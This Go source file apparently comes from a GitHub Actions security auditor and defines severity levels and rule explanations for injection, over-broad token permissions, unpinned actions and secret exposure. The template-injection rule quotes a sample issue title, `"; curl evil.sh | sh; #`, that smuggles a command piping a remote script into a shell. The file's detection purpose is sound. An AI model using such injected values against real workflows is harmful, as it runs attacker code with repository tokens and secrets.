package workflowaudit

// Severity ranks a finding; the check run compares it with the fail_on parameter.
type Severity string

// Severities from the most to the least serious.
const (
	SeverityCritical Severity = "critical"
	SeverityHigh     Severity = "high"
	SeverityMedium   Severity = "medium"
	SeverityLow      Severity = "low"
)

// Rank orders severities: critical 4, high 3, medium 2, low 1, unknown 0.
func (s Severity) Rank() int {
	switch s {
	case SeverityCritical:
		return 4
	case SeverityHigh:
		return 3
	case SeverityMedium:
		return 2
	case SeverityLow:
		return 1
	}
	return 0
}

// Rule ids, stable: they appear in suppression comments and repository configuration.
const (
	RuleTemplateInjection    = "template-injection"
	RuleUntrustedCheckout    = "untrusted-checkout"
	RuleUnpinnedAction       = "unpinned-action"
	RuleMissingPermissions   = "missing-permissions"
	RuleWriteAllPermissions  = "write-all-permissions"
	RuleExcessivePermissions = "excessive-permissions"
	RuleSecretsInherit       = "secrets-inherit"
	RuleSecretExposure       = "secret-exposure"
	RulePersistCredentials   = "persist-credentials"
	RuleUnsecureCommands     = "unsecure-commands"
	RuleSelfHostedRunner     = "self-hosted-runner"
	RuleCurlPipeShell        = "curl-pipe-shell"
)

// HardeningGuide is GitHub's security-hardening guide for Actions; rule links point at its anchors.
const HardeningGuide = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"

// RuleInfo describes one rule: its default severity, explanation and documentation link.
type RuleInfo struct {
	ID          string
	Severity    Severity
	Title       string
	Explanation string
	Link        string
}

// Rules lists every rule the auditor knows, by id.
var Rules = map[string]RuleInfo{
	RuleTemplateInjection: {RuleTemplateInjection, SeverityCritical, "Template injection of untrusted input",
		"GitHub expands ${{ }} expressions into the script text before the shell or JavaScript runs it, so a value an outsider controls (an issue title, a pull request body, a branch name, a commit message) becomes code: a title like `\"; curl evil.sh | sh; #` runs with the job's token and secrets. Pass the value through an environment variable (env: TITLE: ${{ github.event.issue.title }}) and use \"$TITLE\" in the script; the shell then treats it as data.",
		HardeningGuide + "#understanding-the-risk-of-script-injections"},
	RuleUntrustedCheckout: {RuleUntrustedCheckout, SeverityCritical, "Privileged trigger checks out and runs untrusted code",
		"pull_request_target and workflow_run run in the context of the base repository, with a write token and access to secrets, even for pull requests from forks. Checking out the pull request's head (head.sha, head.ref, refs/pull/N/merge, workflow_run.head_sha) and then running a script or a local action executes the contributor's code with those privileges (a \"pwn request\"). Run untrusted code in a pull_request workflow without secrets, and pass results to the privileged workflow as artifacts that are treated as data.",
		HardeningGuide + "#understanding-the-risk-of-script-injections"},
	RuleUnpinnedAction: {RuleUnpinnedAction, SeverityMedium, "Third-party action not pinned to a commit SHA",
		"Tags and branches are mutable: whoever controls the action's repository (or steals its maintainer's credentials, as in the tj-actions/changed-files compromise) can move the tag to malicious code that then runs in your workflow with its token and secrets. Pinning to a full 40-character commit SHA is the only immutable reference; keep the tag as a comment so updates stay readable.",
		HardeningGuide + "#using-third-party-actions"},
	RuleMissingPermissions: {RuleMissingPermissions, SeverityMedium, "No top-level permissions",
		"Without a permissions block the GITHUB_TOKEN gets the repository's or organisation's default permissions, which may be read-write on everything. Declaring permissions: contents: read at the top (and widening per job only where needed) limits what a compromised step can do with the token.",
		HardeningGuide + "#using-secrets"},
	RuleWriteAllPermissions: {RuleWriteAllPermissions, SeverityHigh, "permissions: write-all",
		"write-all grants the GITHUB_TOKEN write access to every scope (contents, packages, actions, pull requests, ...). Any compromised or injected step can then push code, publish packages or rewrite workflows. List only the scopes the job needs.",
		HardeningGuide + "#using-secrets"},
	RuleExcessivePermissions: {RuleExcessivePermissions, SeverityMedium, "Top-level write scope no job needs",
		"A write scope granted at the top level applies to every job that does not declare its own permissions. When no such job uses the token (every job overrides permissions, or the inheriting jobs only check out, set up tools and run scripts that never mention GITHUB_TOKEN, gh or git push), the write access only widens what a compromised step could do. Move the scope to the job that needs it.",
		HardeningGuide + "#using-secrets"},
	RuleSecretsInherit: {RuleSecretsInherit, SeverityMedium, "secrets: inherit to a reusable workflow",
		"secrets: inherit passes every secret of the calling repository to the called workflow, including ones it never uses; a compromise of that workflow (or of the actions it runs) exposes them all. Pass the secrets it needs explicitly by name.",
		HardeningGuide + "#using-secrets"},
	RuleSecretExposure: {RuleSecretExposure, SeverityHigh, "Secret printed or written to a file",
		"Echoing a secret relies on log masking, which misses transformed values (base64, URL-encoded, split), and writing it to a file leaves it in the workspace where later steps, caches and uploaded artifacts can pick it up. Pass secrets to tools through environment variables or stdin (--password-stdin) instead.",
		HardeningGuide + "#using-secrets"},
	RulePersistCredentials: {RulePersistCredentials, SeverityHigh, "actions/checkout keeps the token in .git/config",
		"actions/checkout stores the GITHUB_TOKEN in .git/config unless persist-credentials: false. In a pull_request_target or workflow_run workflow, that token has write access, and any later step that runs code (a script, a local action) can read it from the checkout. Set persist-credentials: false and pass a token explicitly where a push is really needed.",
		HardeningGuide + "#using-secrets"},
	RuleUnsecureCommands: {RuleUnsecureCommands, SeverityHigh, "ACTIONS_ALLOW_UNSECURE_COMMANDS enabled",
		"ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables the deprecated set-env and add-path workflow commands, which any process that can write to the log (including a tool printing attacker-controlled text) can use to inject environment variables such as LD_PRELOAD or NODE_OPTIONS into later steps. Use $GITHUB_ENV and $GITHUB_PATH files instead.",
		HardeningGuide + "#understanding-the-risk-of-script-injections"},
	RuleSelfHostedRunner: {RuleSelfHostedRunner, SeverityLow, "Self-hosted runner",
		"Self-hosted runners are not ephemeral clean VMs: code a job runs can persist on the machine and reach the network it sits in. On a public repository, anyone can open a pull request whose workflow runs on it. Use self-hosted runners only for private repositories, or make them ephemeral and isolated.",
		HardeningGuide + "#hardening-for-self-hosted-runners"},
	RuleCurlPipeShell: {RuleCurlPipeShell, SeverityMedium, "Remote script piped into a shell",
		"curl ... | sh runs whatever the URL serves at that moment, with no pinning or integrity check: a compromised or hijacked host, or a moved branch in a raw.githubusercontent.com URL, runs arbitrary code with the job's token and secrets. Download a pinned version, verify its checksum, then run it, or use a pinned action.",
		HardeningGuide + "#using-third-party-actions"},
}
